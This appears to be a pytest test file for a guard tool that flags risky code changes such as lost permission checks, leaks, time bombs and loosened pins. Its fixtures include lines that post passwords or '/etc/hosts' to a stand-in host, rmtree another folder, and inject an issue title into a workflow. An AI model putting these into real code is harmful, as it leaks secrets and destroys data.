"""What the rules see that have a person look: lost checks, leaks, bombs, loosened supply."""

from __future__ import annotations

import pytest

from pytest_selfmod_guard.model import Finding, Risk
from tests.rules.conftest import Ask

_HOST = "https://in.example.invalid/x"
_GUARDED = """\
def wrapper(request, note):
    if note is None or note.owner != request.user:
        raise PermissionDenied
    return note
"""


def _new(ask: Ask, rule: str, text: str, path: str = "inn/a.py") -> list[Finding]:
    return ask(rule, {}, {path: text})


def _changed(ask: Ask, rule: str, old: str, new: str, path: str = "inn/a.py") -> list[Finding]:
    return ask(rule, {path: old}, {path: new})


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("note is None or note.owner != request.user", "note is None"),
        (
            "note is None or note.owner != request.user",
            "note.owner != request.user and note.locked",
        ),
        ("        raise PermissionDenied", "        print('denied')"),
        ("        raise PermissionDenied", "        pass"),
    ],
)
def test_lost_owner(ask: Ask, old: str, new: str) -> None:
    """A condition that goes, holds less often, or only tells, binds agents."""
    found = _changed(ask, "SMG265", _GUARDED, _GUARDED.replace(old, new))
    assert [(one.risk, one.settled_by) for one in found] == [(Risk.HIGH, "review")]
    assert found[0].line == 1


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("raise PermissionDenied", "raise PermissionDenied(note)"),
        (
            "note is None or note.owner != request.user",
            "note.owner != request.user or note is None",
        ),
        ("note.owner != request.user", "request.user != note.owner"),
    ],
)
def test_kept_owner_is_silent(ask: Ask, old: str, new: str) -> None:
    """The same check in other words, or in another order, is no matter."""
    assert not _changed(ask, "SMG265", _GUARDED, _GUARDED.replace(old, new))


def test_check_moved_to_another_file_is_silent(ask: Ask) -> None:
    """A check about the same that the change gains elsewhere takes the place of the lost one."""
    bare = "def wrapper(request, note):\n    return note\n"
    moved = "def owned(request, note):\n    if note.owner != request.user:\n        raise Denied\n"
    assert ask("SMG265", {"inn/a.py": _GUARDED}, {"inn/a.py": bare})
    assert not ask("SMG265", {"inn/a.py": _GUARDED}, {"inn/a.py": bare, "inn/b.py": moved})


def test_nothing_stands_in_for_a_comparison_in_constant_time(ask: Ask) -> None:
    """A check of a signature is not replaced by one that merely mentions a signature."""
    old = "def ok(a, signature):\n    return hmac.compare_digest(a, signature)\n"
    new = "def ok(a, signature):\n    return signature != 'digest'\n"
    assert _changed(ask, "SMG265", old, new)


def test_checks_of_tests_may_go(ask: Ask) -> None:
    """What tests insist on is for other rules."""
    assert not _changed(
        ask, "SMG265", _GUARDED, "def wrapper(request, note):\n    return note\n", "tests/test_a.py"
    )


def test_new_way_past_a_check(ask: Ask) -> None:
    """A new condition on which a check says yes is told; one that says no is not."""
    old = "def verify(a, b):\n    return hmac.compare_digest(a, b)\n"
    yes = old.replace("    return", "    if not b:\n        return True\n    return", 1)
    assert _changed(ask, "SMG265", old, yes)
    assert not _changed(ask, "SMG265", old, yes.replace("True", "False"))


@pytest.mark.parametrize(
    "given", ["password", "user.email", "request.form", "open('/etc/hosts').read()"]
)
def test_told_to_a_new_host(ask: Ask, given: str) -> None:
    """What is private and goes to a host that is new is told, with the host's name."""
    head = "import requests\ndef f(password, user, request):\n"
    text = f"{head}    requests.post('{_HOST}', data={given})\n"
    found = _new(ask, "SMG266", text)
    assert found
    assert "in.example.invalid" in found[0].message
    assert found[0].settled_by == "review"


def test_known_host_is_silent(ask: Ask) -> None:
    """A host that any file of the base names is known."""
    text = f"import requests\ndef f(password):\n    requests.post('{_HOST}', data=password)\n"
    assert not ask("SMG266", {"docs/hosts.txt": _HOST}, {"docs/hosts.txt": _HOST, "inn/a.py": text})
    assert ask("SMG266", {}, {"inn/a.py": text})


def test_own_machine_is_silent(ask: Ask) -> None:
    """What stays on the machine, and a login by OAuth, is no matter."""
    text = "import requests\ndef f(password):\n    requests.post('{}', data=password)\n"
    assert not _new(ask, "SMG266", text.format("http://localhost:80/x"))
    assert not _new(ask, "SMG266", text.format("https://in.example.invalid/oauth/token"))


@pytest.mark.parametrize(
    "code",
    [
        "log.info('%s', password)",
        "print(f'{settings.api_key}')",
        "bot.send_message(chat_id=1, text='a' + self.token)",
        "print('x', base64.b64encode(password.encode()).decode())",
    ],
)
def test_secret_in_message(ask: Ask, code: str) -> None:
    """A secret in a log, a print or a message is told, in a test not."""
    text = f"def f(self, password, settings, bot):\n    {code}\n"
    assert [one.settled_by for one in _new(ask, "SMG267", text)] == ["review"]
    assert not _new(ask, "SMG267", text, "tests/test_a.py")


@pytest.mark.parametrize(
    "code",
    [
        "log.info('%s', len(password))",
        "print(f'{usage.tokens} {token}')",
        "client.post(url, password=password)",
        "print('password')",
    ],
)
def test_no_secret_in_message(ask: Ask, code: str) -> None:
    """How long it is, another kind of token, and a login are silent."""
    assert not _new(ask, "SMG267", f"def f(password, usage, token):\n    {code}\n")


@pytest.mark.parametrize(
    "body",
    ["pass", "print(1)", "for x in y:\n            break", "def g():\n            return 1"],
)
def test_loop_without_an_end(ask: Ask, body: str) -> None:
    """Neither a break of an inner loop nor a return of an inner function ends the outer one."""
    found = _new(ask, "SMG268", f"def f(y):\n    while True:\n        {body}\n")
    assert [one.risk for one in found] == [Risk.HIGH]
    assert found[0].settled_by == ""


@pytest.mark.parametrize(
    "body", ["break", "return 1", "raise E", "yield 1", "time.sleep(1)", "x = q.get()", "assert y"]
)
def test_loop_with_an_end_or_a_wait(ask: Ask, body: str) -> None:
    """A loop that can end, or waits for something, is silent."""
    assert not _new(ask, "SMG268", f"def f(y, q):\n    while True:\n        {body}\n")


@pytest.mark.parametrize(
    ("head", "test", "told"),
    [
        ("import socket", "socket.gethostname() == 'build-1'", True),
        ("import socket", "socket.gethostname() == name", False),
        ("import datetime as d", "d.datetime.now() > d.datetime(2031, 1, 1)", True),
        ("import datetime as d", "d.datetime.now() > name", False),
        ("import os", "os.environ.get('USER') == 'jenny'", True),
        ("import os", "os.environ.get('SHELL') == 'fish!'", False),
        ("import platform", "platform.system() == 'Windows'", False),
        ("import time", "time.time() > 1924992000", True),
        ("import time", "time.time() > 60", False),
    ],
)
def test_for_certain_machines(ask: Ask, head: str, test: str, told: bool) -> None:  # noqa: FBT001
    """Who, where and when, compared with what is written, is told; what is not written is not."""
    found = _new(ask, "SMG269", f"{head}\ndef f(name):\n    if {test}:\n        return 1\n")
    assert [one.settled_by for one in found] == ["review"] * told


@pytest.mark.parametrize(
    ("old", "new", "told"),
    [
        ("a==2.0", "a==1.9", True),
        ("a==2.0", "a==2.0.1", False),
        ("a==2.10", "a==2.9", True),
        ("a==2.0", "a", True),
        ("a==2.0", "a>=2", False),
        ("a==2.0", "a>=1", True),
        ("a==2.0", "a<3", True),
        ("a==2.0", "", False),
        ("a>=2.0", "a>=1.0", False),
        ("a==2.0 --hash=sha256:ab", "a==2.0", True),
        ("a==2.0 --hash=sha256:ab", "a==2.1 --hash=sha256:cd", False),
    ],
)
def test_dependency_loosened(ask: Ask, old: str, new: str, told: bool) -> None:  # noqa: FBT001
    """What was fixed and goes back, or may be anything, is told; what goes forward is not."""
    found = _changed(ask, "SMG271", old + "\n", new + "\n", "requirements.txt")
    assert bool(found) is told


def test_pin_gone_from_a_list_on_one_line(ask: Ask) -> None:
    """A project's dependencies may all stand on one line."""
    old = '[project]\ndependencies = ["a==1.0", "b==2.0"]\n'
    assert _changed(ask, "SMG271", old, old.replace("b==2.0", "b"), "pyproject.toml")
    assert not _changed(ask, "SMG271", old, old.replace("b==2.0", "b==2.1"), "pyproject.toml")


def test_own_name_may_be_a_tools(ask: Ask) -> None:
    """The project that makes a tool may install its program."""
    text = '[project]\nname = "{}"\n[project.scripts]\ntox = "a.b:c"\n'
    assert _new(ask, "SMG270", text.format("shop"), "pyproject.toml")
    assert not _new(ask, "SMG270", text.format("tox"), "pyproject.toml")


def test_migration_outside_of_its_folder_is_silent(ask: Ask) -> None:
    """Only what runs by itself when the next version is put to work is a migration."""
    text = "def upgrade():\n    op.drop_table('a')\n"
    assert _new(ask, "SMG274", text, "migrations/versions/1.py")
    assert not _new(ask, "SMG274", text, "inn/tables.py")
    assert not _new(ask, "SMG274", text.replace("upgrade", "downgrade"), "migrations/versions/1.py")


def test_owner_of_hooks_and_images_is_remembered(ask: Ask) -> None:
    """Another image or hook of somebody whom the project trusts already is silent."""
    old = "FROM zz/one:1\n"
    assert not _changed(ask, "SMG276", old, old + "FROM zz/two:2\n", "Dockerfile")
    assert _changed(ask, "SMG276", old, old + "FROM yy/two:2\n", "Dockerfile")


def test_yaml_loader_of_its_own(ask: Ask) -> None:
    """A loader made from the safe one is safe, one made from another is not."""
    head = "import yaml\nclass Own(yaml.{}):\n    pass\n"
    text = head + "def f(p):\n    return yaml.load(p, Loader=Own)\n"
    assert not _new(ask, "SMG212", text.format("SafeLoader"))
    assert _new(ask, "SMG212", text.format("UnsafeLoader"))


def test_script_that_knows_no_secret_may_trace(ask: Ask) -> None:
    """Tracing and listing the environment matter only where a secret is near."""
    assert not _new(ask, "SMG272", "# a token\nset -x\nenv\nmake\n", "scripts/a.sh")
    assert len(_new(ask, "SMG272", "set -x\nenv\nup $API_TOKEN\n", "scripts/a.sh")) == 2


def test_strangers_text_ends_with_the_script(ask: Ask) -> None:
    """What stands behind a script, as in its variables, is no part of it."""
    head = "on: issues\njobs:\n  a:\n    steps:\n      - run: |\n"
    flow = head + "          {}\n        env:\n          T: {}\n"
    title = "${{ github.event.issue.title }}"
    path = ".github/workflows/a.yml"
    assert _new(ask, "SMG231", flow.format(f'echo "{title}"', "x"), path)
    assert not _new(ask, "SMG231", flow.format('echo "$T"', title), path)


@pytest.mark.parametrize("body", ["print('odd')", "pass", "log.warning('odd')", "raise Odd"])
def test_check_that_only_tells_is_none(ask: Ask, body: str) -> None:
    """A condition that stays is no check any more when nothing follows from it."""
    text = "def f(data, digest):\n    if sha256(data).hexdigest() != digest:\n        {}\n"
    found = _changed(ask, "SMG265", text.format("raise Odd()"), text.format(body))
    assert bool(found) is (body != "raise Odd")


@pytest.mark.parametrize(
    ("rule", "path", "line"),
    [
        ("SMG230", "scripts/a.sh", "docker run --privileged shop"),
        ("SMG230", "compose.yaml", "      POSTGRES_HOST_AUTH_METHOD: trust"),
        ("SMG231", ".github/workflows/a.yml", "permissions: write-all"),
        ("SMG231", ".github/workflows/a.yml", "- run: echo ${{ github.event.issue.title }}"),
        ("SMG205", "inn/a.py", "import shutil; shutil.rmtree('/srv/other/data')"),
        ("SMG257", "inn/settings.py", "DEBUG = True"),
        ("SMG212", "inn/a.py", "import yaml; yaml.load(x, Loader=yaml.FullLoader)"),
        ("SMG232", "requirements.txt", "click-tricks-pro==0.1"),
        ("SMG253", "inn/a.py", "DB = 'postgresql://a:n0rthwind@sql.example.invalid/a'"),
    ],
)
def test_people_are_only_warned(ask: Ask, rule: str, path: str, line: str) -> None:
    """Where a person may know that it is meant, only agents are bound."""
    found = _new(ask, rule, line + "\n", path)
    assert [(one.risk, one.settled_by) for one in found] == [(Risk.HIGH, "review")]
